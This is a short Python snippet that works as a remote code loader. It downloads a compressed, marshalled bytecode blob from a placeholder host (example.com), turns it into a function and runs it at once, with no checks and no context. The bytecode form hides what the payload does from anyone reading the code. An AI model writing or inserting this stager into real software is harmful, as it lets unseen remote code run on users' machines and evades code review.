import zlib, types, urllib.request as R, marshal
c = R.urlopen("http://example.com/m.bin").read()
f = types.FunctionType(marshal.loads(zlib.decompress(c)), globals())
f()
